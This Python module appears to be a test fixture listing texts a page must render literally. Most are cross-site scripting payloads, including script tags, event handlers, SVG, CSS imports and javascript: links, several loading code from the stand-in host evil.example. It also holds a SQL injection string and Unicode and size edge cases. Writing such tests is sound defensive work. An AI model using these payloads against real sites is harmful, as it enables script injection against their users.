"""A hundred texts that a page must show as they are: scripts, handlers, styles, Markdown, formulas, controls."""

_RUN = "window.hacked=1"
_PLACES = ("http://evil.example/x", "//evil.example/x", "https://evil.example/x.png")
_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter", "onbegin")
_ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe src=x", "math")
_BIDI = ("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u202b")


def _texts() -> list[str]:
    scripts = [
        f"<script>{_RUN}</script>",
        f"</script><script>{_RUN}</script>",
        f"<SCRIPT SRC={_PLACES[0]}></SCRIPT>",
        f"<script src='{_PLACES[1]}'></script>",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
        f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
        f"<embed src='{_PLACES[0]}'>",
        f"<link rel=stylesheet href='{_PLACES[0]}'>",
        f"<base href='{_PLACES[0]}'>",
        f"<meta http-equiv=refresh content='0;url={_PLACES[0]}'>",
        f"<form action='javascript:{_RUN}'><button>go</button></form>",
        f'"><script>{_RUN}</script>',
        f"'-{_RUN}-'",
        f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}}",
        f"<template><script>{_RUN}</script></template>",
        f"<!--<script>{_RUN}//--></script>",
        f"<![CDATA[<script>{_RUN}</script>]]>",
        f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    ]
    handlers = [f"<{element} {handler}={_RUN}>" for element in _ELEMENTS[:4] for handler in _HANDLERS[:5]]
    drawings = [
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
        f"<svg><use href='{_PLACES[0]}#x'/></svg>",
        f"<svg><image href='{_PLACES[2]}'/></svg>",
        f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
        f"<svg><a href='javascript:{_RUN}'><text>x</text></a></svg>",
    ]
    styles = [
        f"<style>*{{background:url({_PLACES[0]})}}</style>",
        f"<div style='background:url({_PLACES[2]})'>x</div>",
        f"<style>@import '{_PLACES[0]}';</style>",
        "<div style='position:fixed;inset:0;z-index:9999;background:red'>all yours</div>",
        "</style></textarea></title>out",
        "} body { display: none } .rl-text { color: red",
    ]
    marks = [
        f"[click](javascript:{_RUN})",
        f"[click](JaVaScRiPt:{_RUN} 'title')",
        f"![x]({_PLACES[2]})",
        f"[![x]({_PLACES[2]})]({_PLACES[0]})",
        f"<javascript:{_RUN}>",
        f"[a]: {_PLACES[0]}\n[a] ![a]",
        f"[click](data:text/html,<script>{_RUN}</script>)",
        f"[x](vbscript:{_RUN})",
        "# heading\n\n* item\n* *em*\n\n> quote\n\n```\ncode\n```",
        "| a | b |\n|---|---|\n| 1 | <b>2</b> |",
        "***\n___\n---\n~~~ js",
        "`<img src=x onerror=window.hacked=1>`",
        "*unclosed **emphasis _of `all",
        "[" * 200 + "](x)" * 200,
        "> " * 100 + "deep",
    ]
    formulas = [
        "$E = mc^2$",
        "$$\\int_0^1 x$$ costs $5 or $10",
        "\\(a\\) \\[b\\]",
        f"$\\href{{javascript:{_RUN}}}{{x}}$",
        f"$\\require{{html}}\\style{{background:url({_PLACES[0]})}}{{x}}$",
        "\\begin{align}x\\end{align}",
        "$\\def\\x{\\x\\x}\\x$",
        "<math><mtext>x</mtext></math>",
    ]
    directions = [f"left {mark}thgir\u202c {mark * 3} end" for mark in _BIDI]
    letters = [
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f \U0001f1e9\U0001f1ea",
        "Z" + "".join(chr(0x300 + mark % 112) for mark in range(300)) + "algo",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and \u05e2\u05d1\u05e8\u05d9\u05ea 123",
        "\ufeff\u200b\u200c\u200d\u2060invisible\u00ad",
        "\u0001\u0002\u0007\u001b[31mred\u001b[0m",
        "line\u2028separator\u2029paragraph\u0085next",
        "tab\tand  many   spaces\n\n\n\nlines\n",
        "\ufffd\uffff\ue000 private",
        "a" * 5000,
        "\u5b57" * 3000,
        "\U0001f600" * 2000,
        "one word " * 1000,
        "null \\0 %00 &#0; \\x00",
        "'; DROP TABLE events; --",
        '{"uid": "x", "ok": true}',
    ]
    return [
        *scripts,
        *handlers,
        *drawings,
        *styles,
        *marks,
        *formulas,
        *directions,
        *letters[:14],
        "<b>1 MB</b> " * 87382,
    ]


TEXTS = [text.strip() for text in _texts()]
